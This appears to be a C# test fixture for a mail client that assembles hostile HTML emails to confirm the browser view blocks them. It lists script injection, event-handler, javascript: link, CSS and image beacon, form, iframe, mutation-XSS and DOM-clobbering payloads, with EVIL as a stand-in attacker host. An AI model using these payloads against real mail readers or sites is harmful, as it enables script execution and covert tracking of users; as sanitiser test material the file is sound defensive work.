namespace Lmtp.Tests.Browser;

/// <summary>
/// HTML that wants to run, to call home or to lead away, by what it tries. <c>EVIL</c> stands for the address that must not
/// be called.
/// </summary>
internal static class HostileMail
{
    /// <summary>What every mail shows, so that a test knows that it has been shown.</summary>
    public const string Greeting = "Dear reader";

    private static readonly Dictionary<string, string> Vectors = new()
    {
        ["scripts"] = """
            <script>alert(1)</script><script src="EVIL/s.js"></script><script type="module">import "EVIL/m.js"</script>
            <SCRIPT/x>alert(2)</SCRIPT><scr<script>ipt>alert(3)</script><noscript><img src="EVIL/noscript.png"></noscript>
            """,
        ["event handlers"] = """
            <img src=x onerror=alert(1)><body onload=alert(2)><p onmouseover=alert(3) onclick=alert(3)>hover</p><input autofocus onfocus=alert(4)>
            <details open ontoggle=alert(5)><summary>x</summary></details><video oncanplay=alert(6)><source onerror=alert(7)></video>
            <marquee onstart=alert(8)>x</marquee><p style="animation: x 1s" onanimationstart=alert(9)>x</p><a href="#" onclick="alert(10)">click me</a>
            """,
        ["style sheets"] = """
            <style>@import url(EVIL/import.css); @font-face { font-family: f; src: url(EVIL/font.woff2) } p { font-family: f; background: url(EVIL/background.png) }
            a[href^="mailto:"] { background-image: url("EVIL/attribute.png") } li::before { content: url(EVIL/content.png) } * { cursor: url(EVIL/cursor.png), auto }</style>
            <link rel=stylesheet href="EVIL/link.css"><a href="mailto:a@example.org">mail</a>
            """,
        ["style attributes"] = """
            <p style="background:url(EVIL/1.png)">x</p><p style="background:\75rl(EVIL/2.png)">x</p><p style="list-style-image:url('EVIL/3.png')">x</p>
            <p style="background-image:image-set('EVIL/4.png' 1x)">x</p><p style="color:red;/**/background:u/**/rl(EVIL/5.png)">x</p>
            <p style="border-image:url(EVIL/6.png)">x</p><p style="--x:url(EVIL/7.png);background:var(--x)">x</p>
            <p style="position:fixed;inset:0;width:100vw;height:100vh;z-index:99999">over everything</p>
            """,
        ["images"] = """
            <img src="EVIL/1.png"><img srcset="EVIL/2.png 1x, EVIL/3.png 2x"><picture><source srcset="EVIL/4.png"><img src="EVIL/5.png"></picture>
            <table background="EVIL/6.png"><tr><td background="EVIL/7.png">x</td></tr></table><input type=image src="EVIL/8.png">
            <svg width=9 height=9><image href="EVIL/9.png" width=9 height=9 /><use href="EVIL/10.svg#x" /></svg><video poster="EVIL/11.png" autoplay src="EVIL/12.mp4"></video>
            <audio autoplay src="EVIL/13.mp3"></audio><img dynsrc="EVIL/14.png" lowsrc="EVIL/15.png"><img src="//EVIL/16.png"><bgsound src="EVIL/17.wav">
            """,
        ["links ahead of time"] = """
            <link rel=prefetch href="EVIL/1"><link rel=preload as=image href="EVIL/2.png"><link rel=dns-prefetch href="EVIL"><link rel=preconnect href="EVIL">
            <link rel=prerender href="EVIL/3"><link rel=icon href="EVIL/4.ico"><link rel=manifest href="EVIL/5.json"><link rel=modulepreload href="EVIL/6.js">
            <meta http-equiv=Link content="<EVIL/7>; rel=preload; as=image">
            """,
        ["links that run"] = """
            <a href="javascript:alert(1)">click me</a> <a href=" jav&#x09;ascript:alert(2)">click me</a> <a href="java&#10;script:alert(3)">click me</a>
            <a href="data:text/html,<script>alert(4)</script>">click me</a> <a href="vbscript:alert(5)">click me</a> <a xlink:href="javascript:alert(6)">click me</a>
            <a href="blob:EVIL/x">click me</a> <map name=m><area shape=default href="javascript:alert(7)"></map>
            """,
        ["going elsewhere"] = """
            <meta http-equiv=refresh content="0;url=EVIL/refresh"><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="EVIL/" target=_top>
            <a href="relative">click me</a><a href="" target=_top>click me</a>
            """,
        ["forms"] = """
            <form action="EVIL/form" target=_top id=f><input name=x value=y autofocus><button>click me</button></form><button form=f formaction="EVIL/button">click me</button>
            <form><button formaction="javascript:alert(1)">click me</button></form><isindex action="EVIL/isindex"><keygen>
            """,
        ["frames and plug-ins"] = """
            <iframe src="EVIL/frame"></iframe><iframe srcdoc="<script>top.alert(1)</script><img src='EVIL/srcdoc.png'>"></iframe><object data="EVIL/object"></object>
            <embed src="EVIL/embed"><applet code="EVIL/applet"></applet><frameset><frame src="EVIL/frame2"></frameset><portal src="EVIL/portal"></portal>
            """,
        ["svg and mathml"] = """
            <svg onload=alert(1)><script>alert(2)</script><animate onbegin=alert(3) attributeName=x dur=1s /><foreignObject><img src=x onerror=alert(4)></foreignObject></svg>
            <svg><style><img src=x onerror=alert(5)></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(6)>"></mglyph></table></mtext></math>
            <svg></p><style><g title="</style><img src=x onerror=alert(7)>"></svg><math href="javascript:alert(8)">click me</math>
            <svg><a xlink:href="javascript:alert(9)"><text y=20>click me</text></a></svg>
            """,
        ["mutations"] = """
            <form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form></mtext></math></form>
            <p title="`><img src=x onerror=alert(2)>">x</p><xmp><p title="</xmp><img src=x onerror=alert(3)>"></p></xmp><textarea><img title="</textarea><img src=x onerror=alert(4)>"></textarea>
            <title><a title="</title><img src=x onerror=alert(5)>"></a></title><!--><img src=x onerror=alert(6)>--><![CDATA[<img src=x onerror=alert(7)>]]>
            <template><script>alert(8)</script></template><template shadowrootmode=open><img src=x onerror=alert(9)></template>
            <noembed><img src=x onerror=alert(10)></noembed><table><td><svg><desc><td><img src=x onerror=alert(11)></desc></svg></td></table>
            """,
        ["clobbering"] = """
            <img name=body><img id=DOMPurify><form id=document name=document><input name=body><input name=attributes></form><a id=parent name=parent href="EVIL">x</a><img name=currentScript>
            <img name=createElement><input id=dataset><img id=mail-frame name=sanitize>
            """,
    };

    /// <summary>The names of what is tried.</summary>
    public static IEnumerable<string> Names => Vectors.Keys;

    /// <summary>A mail that tries one thing.</summary>
    public static string Of(string name, Uri evil) =>
        $"<p>{Greeting}</p>\n{Vectors[name].Replace("EVIL", evil.ToString().TrimEnd('/'), StringComparison.Ordinal)}";
}
